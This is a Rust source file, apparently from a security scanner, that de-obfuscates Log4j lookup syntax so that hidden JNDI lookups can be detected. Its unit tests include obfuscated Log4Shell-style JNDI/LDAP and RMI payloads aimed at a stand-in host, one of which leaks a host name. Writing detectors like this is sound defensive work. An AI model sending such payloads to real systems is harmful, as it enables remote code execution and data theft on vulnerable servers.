//! Log4j lookup resolution: `${lower:j}${::-n}${env:X:-d}i` and friends are evaluated the way
//! Log4j would, so `${jndi:` shows through any nesting. JNDI lookups themselves are kept.

/// Most lookups evaluated per value (bounds the work on hostile input).
const MAX_LOOKUPS: usize = 64;
/// Stand-ins for the `${` and `}` of a JNDI lookup while the others are evaluated.
const OPEN_KEPT: char = '\u{e000}';
const CLOSE_KEPT: char = '\u{e001}';

/// Evaluates every non-JNDI lookup of `input`.
pub fn resolve_lookups(input: &str) -> String {
    let mut s: String = input.replace([OPEN_KEPT, CLOSE_KEPT], "");
    if !s.contains("${") {
        return s;
    }
    for _ in 0..MAX_LOOKUPS {
        let Some((open, close)) = innermost_lookup(&s) else {
            break;
        };
        let inner = &s[open + 2..close];
        let replacement = if inner.trim_start().to_ascii_lowercase().starts_with("jndi") {
            format!("{OPEN_KEPT}{inner}{CLOSE_KEPT}")
        } else {
            evaluate(inner)
        };
        s.replace_range(open..=close, &replacement);
    }
    s.replace(OPEN_KEPT, "${").replace(CLOSE_KEPT, "}")
}

/// The innermost `${...}`: the last `${` before the first `}` that follows a `${`.
fn innermost_lookup(s: &str) -> Option<(usize, usize)> {
    let mut open = None;
    let bytes = s.as_bytes();
    for i in 0..bytes.len() {
        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'{') {
            open = Some(i);
        } else if bytes[i] == b'}'
            && let Some(o) = open
        {
            return Some((o, i));
        }
    }
    None
}

fn evaluate(inner: &str) -> String {
    if let Some((_, default)) = inner.split_once(":-") {
        return default.to_string();
    }
    let (prefix, arg) = inner.split_once(':').unwrap_or(("", inner));
    match prefix.trim().to_ascii_lowercase().as_str() {
        "lower" | "upper" => arg.to_lowercase(),
        // `${date:'j'}` prints the quoted literal.
        "date" => arg.replace('\'', ""),
        "" => arg.to_string(),
        // env, sys, ctx, main, ...: the value is unknown to us and harmless to drop.
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolves_obfuscations() {
        assert_eq!(
            resolve_lookups("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"),
            "${jndi:ldap://x/a}"
        );
        assert_eq!(
            resolve_lookups("${${lower:J}ndi:rmi://x}"),
            "${jndi:rmi://x}"
        );
        assert_eq!(
            resolve_lookups("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
            "${jndi:ldap://x}"
        );
        assert_eq!(
            resolve_lookups("${jndi:ldap://${hostName}.x/a}"),
            "${jndi:ldap://hostName.x/a}"
        );
        assert_eq!(resolve_lookups("no lookups"), "no lookups");
    }
}
